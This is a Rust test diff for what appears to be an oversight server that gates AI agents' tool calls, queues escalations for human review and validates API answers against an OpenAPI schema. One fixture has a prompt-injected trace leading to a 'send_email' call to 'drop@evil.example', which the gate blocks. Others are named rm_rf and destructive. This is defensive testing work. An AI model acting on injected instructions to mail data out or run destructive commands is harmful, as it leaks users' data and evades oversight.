@@ -1890,3 +1890,338 @@ async fn gate_judges_a_trace_received_over_otlp_named_by_id_or_traceparent() {
     assert_eq!(reads(&s, &viewer, "from_spans").await, 4);
     s.stop().await;
 }
+
+/// The schema of `status` answers of `method path` in the served OpenAPI description, with
+/// references to shared responses resolved.
+fn answer_schema(doc: &Value, method: &str, path: &str, status: u16) -> (String, Value) {
+    let op = &doc["paths"][path][method.to_ascii_lowercase()];
+    let mut answer = op["responses"][status.to_string()].clone();
+    if let Some(r) = answer["$ref"].as_str() {
+        let name = r.rsplit('/').next().unwrap();
+        answer = doc["components"]["responses"][name].clone();
+    }
+    let content = answer["content"]
+        .as_object()
+        .unwrap_or_else(|| panic!("{method} {path} {status}: no content described: {op}"));
+    let (media, v) = content.iter().next().unwrap();
+    (media.clone(), v["schema"].clone())
+}
+
+/// Checks a real answer against its description: status described, content type and body
+/// validating against the schema.
+async fn conforms(
+    s: &TestServer,
+    doc: &Value,
+    token: Option<&str>,
+    (method, route, path): (&str, &str, &str),
+    body: Option<Value>,
+) -> (u16, Value) {
+    let mut req = TestServer::client().request(
+        Method::from_bytes(method.as_bytes()).unwrap(),
+        format!("{}{path}", s.url),
+    );
+    if let Some(t) = token {
+        req = req.bearer_auth(t);
+    }
+    if let Some(b) = &body {
+        req = req.json(b);
+    }
+    let r = req.send().await.unwrap();
+    let status = r.status().as_u16();
+    let media = r
+        .headers()
+        .get("content-type")
+        .map(|v| v.to_str().unwrap().to_owned())
+        .unwrap_or_default();
+    let text = r.text().await.unwrap();
+    let (described, schema) = answer_schema(doc, method, route, status);
+    let matches = match described.strip_suffix("/*") {
+        Some(range) => media.starts_with(&format!("{range}/")),
+        None => media.split(';').next() == described.split(';').next(),
+    };
+    assert!(
+        matches,
+        "{method} {path}: answered {media}, described {described}"
+    );
+    let value = if described.starts_with("application/json") {
+        serde_json::from_str(&text).unwrap_or_else(|e| panic!("{method} {path}: {e}: {text}"))
+    } else {
+        Value::String(text)
+    };
+    if let Err(e) = jsonschema::validate(&schema, &value) {
+        panic!(
+            "{method} {path} {status}: {e} at {}\n{value}",
+            e.instance_path()
+        );
+    }
+    (status, value)
+}
+
+#[tokio::test]
+async fn real_answers_validate_against_their_openapi_schemas() {
+    let mut s = TestServer::start(ServerOptions {
+        score_quiet: Duration::from_millis(50),
+        ..ServerOptions::default()
+    })
+    .await;
+    let agent = s.token("default", "agent").await;
+    let admin = s.token("default", "admin").await;
+    let reviewer = s.token("default", "reviewer").await;
+    let (_, doc) = call(&s, Method::GET, "/api/v1/openapi.json", None, None).await;
+    let a = Some(agent.as_str());
+    let ad = Some(admin.as_str());
+
+    // Gate answers: allow, block, escalate; an OTLP export and a gate call naming it.
+    for body in [benign(), rm_rf(), destructive()] {
+        let (st, v) = conforms(
+            &s,
+            &doc,
+            a,
+            ("POST", "/api/v1/gate", "/api/v1/gate"),
+            Some(body),
+        )
+        .await;
+        assert_eq!(st, 200, "{v}");
+    }
+    let tid = "4bf92f3577b34da6a3ce929d0e0e4736";
+    conforms(
+        &s,
+        &doc,
+        a,
+        ("POST", "/v1/traces", "/v1/traces"),
+        Some(support_spans(tid, INJECTED)),
+    )
+    .await;
+    let (_, v) = conforms(
+        &s,
+        &doc,
+        a,
+        ("POST", "/api/v1/gate", "/api/v1/gate"),
+        Some(json!({"otlp_trace_id": tid, "pending": {"name": "send_email", "arguments": {"to": "drop@evil.example"}}, "explain": true})),
+    )
+    .await;
+    assert_eq!(v["decision"], "block");
+    let _ = wait_scored(&s, &admin, tid).await;
+    wait_stored(&s, &admin, &v["trace_id"].as_str().unwrap().to_owned()).await;
+    let gate_trace = {
+        let (_, v) = gate(&s, &agent, benign()).await;
+        let id = v["trace_id"].as_str().unwrap().to_owned();
+        wait_stored(&s, &admin, &id).await;
+        id
+    };
+
+    // Reads, each as the route answers it.
+    let reads: Vec<(&str, String)> = vec![
+        ("/healthz", "/healthz".into()),
+        ("/readyz", "/readyz".into()),
+        ("/metrics", "/metrics".into()),
+        ("/", "/".into()),
+        (
+            "/api/v1/errors/{code}",
+            "/api/v1/errors/offset_mismatch".into(),
+        ),
+        ("/api/v1/traces", "/api/v1/traces".into()),
+        (
+            "/api/v1/traces",
+            "/api/v1/traces?source=otlp&limit=5".into(),
+        ),
+        ("/api/v1/traces/{id}", format!("/api/v1/traces/{tid}")),
+        (
+            "/api/v1/traces/{id}",
+            format!("/api/v1/traces/{gate_trace}"),
+        ),
+        (
+            "/api/v1/traces/{id}/feedback",
+            format!("/api/v1/traces/{tid}/feedback"),
+        ),
+        ("/api/v1/runs", "/api/v1/runs".into()),
+        ("/api/v1/judges", "/api/v1/judges".into()),
+        ("/api/v1/judges/builtins", "/api/v1/judges/builtins".into()),
+        ("/api/v1/monitors", "/api/v1/monitors".into()),
+        ("/api/v1/policies", "/api/v1/policies".into()),
+        (
+            "/api/v1/policies/modules",
+            "/api/v1/policies/modules".into(),
+        ),
+        ("/api/v1/escalations", "/api/v1/escalations".into()),
+        ("/api/v1/audit/verify", "/api/v1/audit/verify".into()),
+        (
+            "/api/v1/audit/entries/{seq}",
+            "/api/v1/audit/entries/1".into(),
+        ),
+        ("/api/v1/session", "/api/v1/session".into()),
+        ("/api/v1/report/value", "/api/v1/report/value".into()),
+        ("/api/v1/label-schemas", "/api/v1/label-schemas".into()),
+        ("/api/v1/queues", "/api/v1/queues".into()),
+    ];
+    for (route, path) in &reads {
+        let (st, v) = conforms(&s, &doc, ad, ("GET", route, path), None).await;
+        assert_eq!(st, 200, "{path}: {v}");
+    }
+    let (_, v) = conforms(
+        &s,
+        &doc,
+        ad,
+        ("GET", "/api/v1/escalations", "/api/v1/escalations"),
+        None,
+    )
+    .await;
+    let esc = v["escalations"][0]["id"]
+        .as_str()
+        .expect("the escalated call is queued")
+        .to_owned();
+    conforms(
+        &s,
+        &doc,
+        ad,
+        (
+            "GET",
+            "/api/v1/escalations/{id}",
+            &format!("/api/v1/escalations/{esc}"),
+        ),
+        None,
+    )
+    .await;
+    let (st, _) = conforms(
+        &s,
+        &doc,
+        Some(&reviewer),
+        (
+            "POST",
+            "/api/v1/escalations/{id}/decision",
+            &format!("/api/v1/escalations/{esc}/decision"),
+        ),
+        Some(json!({"decision": "deny"})),
+    )
+    .await;
+    assert_eq!(st, 200);
+    let (st, _) = conforms(
+        &s,
+        &doc,
+        ad,
+        (
+            "POST",
+            "/api/v1/traces/{id}/feedback",
+            &format!("/api/v1/traces/{tid}/feedback"),
+        ),
+        Some(json!({"name": "correct", "value": false, "rationale": "mailed the list"})),
+    )
+    .await;
+    assert_eq!(st, 201);
+    conforms(
+        &s,
+        &doc,
+        ad,
+        ("POST", "/api/v1/policies/reload", "/api/v1/policies/reload"),
+        None,
+    )
+    .await;
+
+    // Errors, wherever they come from, in the one shape (query strings and bodies refused
+    // by their extractors too), each with a link that describes its code.
+    let errors: Vec<(&str, &str, String, Option<&str>, Option<Value>, u16)> = vec![
+        (
+            "GET",
+            "/api/v1/escalations",
+            "/api/v1/escalations?limit=many".into(),
+            ad,
+            None,
+            400,
+        ),
+        (
+            "GET",
+            "/api/v1/traces",
+            "/api/v1/traces?limit=0".into(),
+            ad,
+            None,
+            400,
+        ),
+        (
+            "GET",
+            "/api/v1/traces",
+            "/api/v1/traces?color=red".into(),
+            ad,
+            None,
+            400,
+        ),
+        (
+            "GET",
+            "/api/v1/traces/{id}",
+            "/api/v1/traces/nope".into(),
+            ad,
+            None,
+            404,
+        ),
+        (
+            "GET",
+            "/api/v1/traces",
+            "/api/v1/traces".into(),
+            None,
+            None,
+            401,
+        ),
+        (
+            "POST",
+            "/api/v1/gate",
+            "/api/v1/gate".into(),
+            ad,
+            Some(json!({"trace": "x", "extra": 1})),
+            400,
+        ),
+        (
+            "POST",
+            "/api/v1/escalations/{id}/decision",
+            format!("/api/v1/escalations/{esc}/decision"),
+            Some(reviewer.as_str()),
+            Some(json!({"decision": 7})),
+            400,
+        ),
+        (
+            "GET",
+            "/api/v1/errors/{code}",
+            "/api/v1/errors/no_such_code".into(),
+            None,
+            None,
+            404,
+        ),
+    ];
+    for (method, route, path, token, body, status) in errors {
+        let (st, v) = conforms(&s, &doc, token, (method, route, &path), body).await;
+        assert_eq!(st, status, "{path}: {v}");
+        let link = v["error"]["link"].as_str().unwrap();
+        let (st, d) = call(&s, Method::GET, link, None, None).await;
+        assert_eq!(
+            (st, &d["code"]),
+            (StatusCode::OK, &v["error"]["code"]),
+            "{d}"
+        );
+    }
+
+    // An OTLP client sending protobuf gets protobuf errors, from the token check too.
+    use opentelemetry_proto::tonic::collector::trace::v1::ExportTraceServiceRequest;
+    for (token, body, status, code) in [
+        (
+            None,
+            ExportTraceServiceRequest::default().encode_to_vec(),
+            401,
+            16,
+        ),
+        (Some(agent.as_str()), b"\xff\xff\xff".to_vec(), 400, 3),
+    ] {
+        let mut req = TestServer::client()
+            .post(format!("{}/v1/traces", s.url))
+            .header("content-type", "application/x-protobuf")
+            .body(body);
+        if let Some(t) = token {
+            req = req.bearer_auth(t);
+        }
+        let r = req.send().await.unwrap();
+        assert_eq!(r.status().as_u16(), status);
+        assert_eq!(r.headers()["content-type"], "application/x-protobuf");
+        let www = r.headers().get("www-authenticate").is_some();
+        let st = tribunal_server::otlp::RpcStatus::decode(r.bytes().await.unwrap()).unwrap();
+        assert_eq!(st.code, code, "{}", st.message);
+        assert_eq!(www, status == 401, "a 401 names its scheme");
+    }
+    s.stop().await;
+}
